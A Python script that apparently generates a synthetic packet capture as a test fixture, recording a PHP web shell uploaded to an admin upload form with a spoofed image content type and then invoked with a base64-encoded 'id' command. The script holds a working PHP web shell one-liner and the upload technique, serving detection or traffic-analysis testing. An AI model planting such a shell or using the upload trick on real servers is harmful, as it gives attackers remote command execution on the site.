"""A web shell uploaded as a form's file, then called with a command."""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
from build import Capture, here, http_request, http_response

c = Capture(seed=16)
EDGE = '----vong7a1'
SHELL = b'<?php if(isset($_POST["c"])){system(base64_decode($_POST["c"]));} ?>'
FORM = (f'--{EDGE}\r\nContent-Disposition: form-data; name="tep"; filename="anh.php"\r\nContent-Type: image/png\r\n\r\n').encode() + SHELL + \
    f'\r\n--{EDGE}--\r\n'.encode()
with c.tcp('203.0.113.66', '10.30.0.80', 80) as s:
    s.client(http_request('POST', '/quan-tri/tai-len', 'cong.example.gov.vn', [f'Content-Type: multipart/form-data; boundary={EDGE}'], FORM))
    s.server(http_response(b'{"tep":"/tep/anh.php"}', kind='application/json'))
    c.wait(3)
    s.client(http_request('POST', '/tep/anh.php', 'cong.example.gov.vn', ['Content-Type: application/x-www-form-urlencoded'], b'c=aWQ%3D'))
    s.server(http_response(b'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n', kind='text/plain'))
c.write(here(__file__, 'webshell-upload.pcap'))
